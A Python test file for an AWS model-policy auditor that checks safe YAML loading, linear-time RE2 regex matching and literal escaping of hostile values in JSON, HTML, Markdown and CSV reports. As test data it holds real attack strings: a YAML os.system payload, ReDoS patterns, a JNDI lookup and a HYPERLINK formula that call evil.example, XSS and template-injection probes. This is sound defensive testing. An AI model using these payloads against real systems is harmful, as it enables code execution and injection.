"""Hostile packs and hostile data: YAML is loaded safely, pack regexes are compiled once by
RE2 (linear-time matching: nothing to backtrack), and values from AWS are only ever data - never a
pattern, a template or a format string - and are rendered literally (escaped) in reports."""

from __future__ import annotations

import copy
import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
import re2  # type: ignore[import-untyped]

from auditor.cli import main
from auditor.errors import PackError
from auditor.models import Status
from auditor.policy import load_pack_document, load_packs

from ..policy.conftest import COMPLIANT


def test_yaml_python_tags_are_refused_not_executed(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    pack = tmp_path / "evil.yaml"
    pack.write_text(
        "version: 1\n"
        f"policies: !!python/object/apply:os.system ['touch {marker}']\n"
        "params: !!python/name:os.system\n"
    )
    with pytest.raises(PackError, match="could not determine a constructor"):
        load_packs([pack])
    assert not marker.exists()


@pytest.mark.parametrize(
    ("pattern", "tail", "found"),
    [
        ("(a+)+$", "!", False),
        ("(a+)+$", "", True),
        ("(a*)*b", "!", False),
        ("(.*,)*x", "!", False),
        ("(a|aa)+$", "!", False),
        ("(a|aa)+$", "", True),
        ("(.|a)*x", "!", False),
        ("(x|xy)+z", "!", False),
        ("((?:ab|a)|a)+$", "!", False),
    ],
)
def test_patterns_that_backtrack_in_re_run_in_linear_time_under_re2(
    pattern: str, tail: str, found: bool
) -> None:
    # Pack regexes are RE2 (tests/policy/test_re2.py): no pattern can make matching
    # backtrack, so the classic ReDoS shapes load and judge a hostile value correctly.
    check = {"path": "name", "op": "regex", "value": pattern}
    pack = {
        "version": 1,
        "policies": [{"id": "p", "title": "P", "severity": "high", "check": check}],
    }
    policy_set = load_pack_document(pack)

    verdict = policy_set.evaluate_document({"name": "a" * 30_000 + tail})

    assert verdict.status_of(0) is (Status.PASS if found else Status.FAIL)


def test_pack_regexes_are_compiled_once_at_load(monkeypatch: pytest.MonkeyPatch) -> None:
    check = {
        "any": [
            {"path": "name", "op": "regex", "value": "^safe-"},
            {"path": "tags", "op": "keys", "check": {"op": "not-regex", "value": "(?i)^aws:"}},
        ]
    }
    pack = {
        "version": 1,
        "policies": [{"id": "p", "title": "P", "severity": "high", "check": check}],
    }
    policy_set = load_pack_document(pack)

    def no_compiling(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("a regex was compiled during evaluation")

    for module in (re, re2):
        monkeypatch.setattr(module, "compile", no_compiling)
        monkeypatch.setattr(module, "search", no_compiling)
        monkeypatch.setattr(module, "match", no_compiling)
    hostile = {"name": "a" * 50_000 + "!", "tags": {"a" * 10_000: "x"}}
    verdict = policy_set.evaluate_document(hostile)
    assert verdict.status_of(0) is Status.PASS  # the tag key passes not-regex


HOSTILE = {
    "template": "{{7*7}}",
    "jndi": "${jndi:ldap://evil.example/x}",
    "dotstar": ".*",
    "star": "*",
    "param": "{required_tags}",
    "format": "%s%n%x{0}",
    "script": "<script>alert(1)</script>",
    "markdown": "[click](javascript:alert(1))",
    "formula": '=HYPERLINK("http://evil.example")',
    "ansi": "\x1b[31mred\x1b[0m",
}

PACK = """\
version: 1
params:
  required_tags: [owner]
policies:
  - id: name-prefix
    title: Name starts with safe-
    severity: high
    check: {path: name, op: regex, value: "^safe-"}
  - id: team-known
    title: Team is known
    severity: high
    check: {path: tags.team, op: in, value: [ml, data]}
  - id: env-glob
    title: Environment is prod-something
    severity: high
    check: {path: tags.env, op: glob, value: "prod-*"}
  - id: owner-tag
    title: Owner tag present
    severity: high
    check: {path: tags, op: has-keys, value: {param: required_tags}}
"""


def test_values_from_aws_are_data_never_patterns_templates_or_markup(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    documents = []
    for index, (label, value) in enumerate(sorted(HOSTILE.items())):
        document = copy.deepcopy(COMPLIANT)
        document["trainedModelArn"] = f"{COMPLIANT['trainedModelArn']}{index}"
        document["name"] = value
        document["tags"] = {"team": value, "env": value, value: label, "{owner}": "x"}
        documents.append(document)
    inputs = tmp_path / "responses.json"
    inputs.write_text(json.dumps(documents))
    pack = tmp_path / "pack.yaml"
    pack.write_text(PACK)
    out_dir = tmp_path / "out"

    code = main(
        [
            "evaluate",
            "--input",
            str(inputs),
            "--policies",
            str(pack),
            "--output-dir",
            str(out_dir),
            "--format",
            "all",
        ]
    )

    assert code == 1
    report = json.loads((out_dir / "report.json").read_text())
    failed = {
        (r["resource"]["arn"], r["policy_id"]) for r in report["results"] if r["status"] == "fail"
    }
    # every hostile value fails every check: ".*" is not a pattern, "*" not a glob, the
    # "{owner}" / "{required_tags}" keys are not params, "{{7*7}}" is not 49
    arns = {d["trainedModelArn"] for d in documents}
    assert failed == {
        (arn, p) for arn in arns for p in ("name-prefix", "team-known", "env-glob", "owner-tag")
    }
    evidence = json.dumps([r["evidence"] for r in report["results"]])
    for value in HOSTILE.values():
        assert json.dumps(value)[1:-1] in evidence, value  # quoted literally
    assert "49" not in evidence

    html = (out_dir / "report.html").read_text()
    assert "<script>alert(1)</script>" not in html
    assert "\x1b[31m" not in html
    markdown = (out_dir / "report.md").read_text()
    assert "<script>" not in markdown
    assert "](javascript:" not in markdown
    rows = list(csv.reader(io.StringIO((out_dir / "report.csv").read_text())))
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
